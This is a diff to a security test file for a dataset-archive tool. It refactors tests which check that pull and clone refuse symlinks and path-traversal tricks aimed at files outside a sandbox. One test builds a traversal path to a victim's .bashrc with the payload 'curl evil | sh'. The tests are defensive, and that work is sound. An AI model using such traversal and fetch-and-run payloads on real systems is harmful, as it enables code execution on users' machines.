@@ -71,6 +71,28 @@ def author_archive(tmp_path: Path, rows: int = 2) -> Archive:
     return author
 
 
+def pushed_author(tmp_path: Path) -> tuple[Archive, Path]:
+    """The author's archive with its data pushed to a directory remote beside it."""
+    author = author_archive(tmp_path)
+    store = tmp_path / "remote-store"
+    author.add_remote("shared", str(store), default=True)
+    author.push(DS)
+    return author, store
+
+
+def pull_refused(tmp_path: Path, sandbox: Path, author: Archive, cli, why: str) -> Path:
+    """Clone AUTHOR, confirm its remote, and check that `pull` refuses (WHY) and touches
+    nothing outside the sandbox; returns the clone."""
+    root = clone(author, sandbox)
+    cli("-C", root, "remote", "confirm", "shared")
+    before = outside(tmp_path, sandbox)
+    result = cli("-C", root, "pull", DS)
+    no_traceback(result)
+    assert result.code != 0 and why in result.err, result.err
+    assert outside(tmp_path, sandbox) == before
+    return root
+
+
 def forged_line(events: list[dict], event: dict) -> bytes:
     """EVENT as the next line of a ledger holding EVENTS: chain and sequence consistent."""
     prev = sha256_bytes(canonical_json(events[-1]).encode()) if events else GENESIS
@@ -255,19 +277,10 @@ def test_another_datasets_ledger_symlink_blocks_nothing_and_is_not_cut(tmp_path,
 
 def test_snapshot_directory_symlink_is_refused_by_pull(tmp_path, world, cli) -> None:
     victim, sandbox = world
-    author = author_archive(tmp_path)
-    store = tmp_path / "remote-store"
-    author.add_remote("shared", str(store), default=True)
-    author.push(DS)
+    author, store = pushed_author(tmp_path)
     snapshot_id = first_record(author)["id"]
     commit_symlink(author, f"datasets/{DS}/snapshots/{snapshot_id}", victim / "dir")
-    root = clone(author, sandbox)
-    cli("-C", root, "remote", "confirm", "shared")
-    before = outside(tmp_path, sandbox)
-    result = cli("-C", root, "pull", DS)
-    no_traceback(result)
-    assert result.code != 0 and "symbolic link" in result.err
-    assert outside(tmp_path, sandbox) == before
+    root = pull_refused(tmp_path, sandbox, author, cli, "symbolic link")
     verify = json.loads(cli("-C", root, "verify", "--json").out)
     assert any("symbolic link" in p["problem"] for p in verify["problems"])
 
@@ -279,10 +292,7 @@ def test_dvc_listing_naming_paths_outside_is_refused_by_clone(tmp_path, world, c
     """The author rewrites a snapshot's DVC directory listing (with its pointer, and the
     record too or not) to name ../../victim/.bashrc; clone --pull must not write it."""
     victim, sandbox = world
-    author = author_archive(tmp_path)
-    store = tmp_path / "remote-store"
-    author.add_remote("shared", str(store), default=True)
-    author.push(DS)
+    author, store = pushed_author(tmp_path)
     record = first_record(author)
     rel = "../../../../../victim/.bashrc"
     payload = b"curl evil | sh\n"
@@ -320,22 +330,13 @@ def test_dvc_listing_naming_paths_outside_is_refused_by_clone(tmp_path, world, c
 
 def test_pointer_naming_another_path_is_refused(tmp_path, world, cli) -> None:
     victim, sandbox = world
-    author = author_archive(tmp_path)
-    store = tmp_path / "remote-store"
-    author.add_remote("shared", str(store), default=True)
-    author.push(DS)
+    author, store = pushed_author(tmp_path)
     snapshot_id = first_record(author)["id"]
     pointer = author.store.pointer(DS, snapshot_id)
     pointer.write_text(pointer.read_text().replace(f"path: {snapshot_id}",
                                                    "path: ../../../../victim/dir"))
     git(author.root, "commit", "-qam", "pointer")
-    root = clone(author, sandbox)
-    cli("-C", root, "remote", "confirm", "shared")
-    before = outside(tmp_path, sandbox)
-    result = cli("-C", root, "pull", DS)
-    no_traceback(result)
-    assert result.code != 0 and "not a DVC directory pointer" in result.err
-    assert outside(tmp_path, sandbox) == before
+    pull_refused(tmp_path, sandbox, author, cli, "not a DVC directory pointer")
 
 
 # -- configs ---------------------------------------------------------------------------
@@ -407,10 +408,7 @@ def test_committed_cache_dir_outside_is_refused(tmp_path, world, cli) -> None:
 
 def test_directory_remote_outside_needs_confirmation(tmp_path, world, cli) -> None:
     _, sandbox = world
-    author = author_archive(tmp_path)
-    store = tmp_path / "remote-store"
-    author.add_remote("shared", str(store), default=True)
-    author.push(DS)
+    author, store = pushed_author(tmp_path)
     root = clone(author, sandbox)
     refused = cli("-C", root, "pull", DS)
     assert refused.code == 2 and "atdarchive remote confirm shared" in refused.err
